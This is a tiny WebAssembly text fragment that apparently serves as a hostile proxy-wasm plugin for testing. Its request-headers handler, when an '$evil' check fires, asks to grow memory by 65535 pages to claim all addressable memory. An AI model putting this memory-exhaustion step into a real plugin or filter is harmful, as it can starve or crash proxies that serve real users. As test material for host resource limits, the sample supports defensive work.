;; Asks for all memory that can be addressed, at once.
(func (export "proxy_on_request_headers") (param i32 i32 i32) (result i32)
  (if (call $evil) (then
    (call $owed (i32.const -1) (memory.grow (i32.const 65535)))))
  (i32.const 0))
